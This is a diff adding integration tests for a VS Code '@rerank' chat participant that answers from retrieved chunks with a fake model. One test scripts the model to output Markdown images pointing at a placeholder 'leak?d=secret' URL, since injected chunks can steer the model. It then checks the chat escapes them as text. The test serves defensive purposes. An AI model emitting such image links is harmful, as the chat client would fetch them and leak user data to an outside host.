@@ -5,7 +5,7 @@ import type { RerankChatMetadata } from '../../src/extension/chat/chat-deps';
 import { Commands } from '../../src/extension/commands';
 import type { RerankSession } from '../../src/extension/session';
 import { QUERY, api, workspaceFile } from '../integration/helpers';
-import { FAKE_VENDOR, acceptQuickPick, chat, fakeModel, newChat, transcript, waitFor, type FakeModel } from './lm-helpers';
+import { FAKE_VENDOR, acceptQuickPick, chat, dismissQuickPick, fakeModel, newChat, transcript, waitFor, type FakeModel } from './lm-helpers';
 
 const EXTENSION = 'rerank-lens.rerank-lens';
 const meta = (result: vscode.ChatResult) => result.metadata as RerankChatMetadata;
@@ -124,10 +124,29 @@ describe('the @rerank chat participant (VS Code 1.117, the fake model as the cha
     assert.match(await transcript(), /From the chunks: eight experts, two per token/);
   });
 
+  it('keeps Markdown images in the answer as text (the chat would fetch them; chunks can steer the model)', async () => {
+    await someResults();
+    fake.script({ parts: ['Look: !', '[pixel](http://127.0.0.1:9/leak?d=secret) and ![b]', '(http://127.0.0.1:9/b) [1]'] });
+    const result = await chat('@rerank /ask What is context size of Mixtral?');
+    assert.equal(result.errorDetails, undefined, JSON.stringify(result));
+    const text = await transcript();
+    assert.ok(text.includes('Look: !\\[pixel](http://127.0.0.1:9/leak?d=secret) and !\\[b](http://127.0.0.1:9/b) [\\[1\\]](command:'), text);
+  });
+
   it('/files chooses the results files the next @rerank reads', async () => {
     const result = await acceptQuickPick(chat('@rerank /files'));
     assert.equal(meta(result).outcome, 'files-chosen', JSON.stringify(result));
     assert.match(await transcript(), /The next reranks read `dense_results\.json`, `sparse_results\.json`\./);
+  });
+
+  it('/files dismissed says so and keeps the files', async () => {
+    const before = await someResults();
+    const result = await dismissQuickPick(chat('@rerank /files'));
+    assert.match(result.errorDetails?.message ?? '', /No results files were chosen; the next rerank uses the files it used before\./, JSON.stringify(result));
+    fake.script('ok');
+    const again = await chat(`@rerank ${QUERY}`);
+    assert.equal(again.errorDetails, undefined, JSON.stringify(again));
+    assert.deepEqual((await api()).current()!.fileNames, before.fileNames);
   });
 
   for (const code of ['NoPermissions', 'Blocked', 'NotFound'] as const) {
@@ -166,6 +185,20 @@ describe('the @rerank chat participant (VS Code 1.117, the fake model as the cha
     assert.equal(fake.requests().length, 0);
     // The link to the error's position (1.117 shows a Location anchor by its file name).
     assert.match(await transcript(), /Open chat_results\.json/);
+
+    // With another file that can be read, that one is reranked and answered from; the bad one is named.
+    await vscode.workspace.fs.writeFile(file, new TextEncoder().encode(JSON.stringify([{ id: 'a', text: 'Mixtral has 8 experts.' }])));
+    await useFiles([workspaceFile('dense_results.json'), file]);
+    await vscode.workspace.fs.writeFile(file, new TextEncoder().encode('[\n  {"id": "a", "text": "x"}\n  {"id": "b"}\n]\n'));
+    await newChat();
+    fake.script('Answered from the file that could be read.');
+    const partly = await chat(`@rerank ${QUERY}`);
+    assert.equal(partly.errorDetails, undefined, JSON.stringify(partly));
+    assert.deepEqual((await api()).current()!.fileNames, ['dense_results.json']);
+    const text = await transcript();
+    // The message is Markdown-escaped (file names and JSON are not ours): compare it unescaped.
+    assert.match(text.replace(/\\(.)/g, '$1'), /⚠️ Skipped: chat\/chat_results\.json:3:3: invalid JSON: .* chat_results\.json\n/, text);
+    assert.match(text, /Answered from the file that could be read\./);
   });
 
   it('cancelling while it scores really stops the worker, and nothing is lost', async () => {
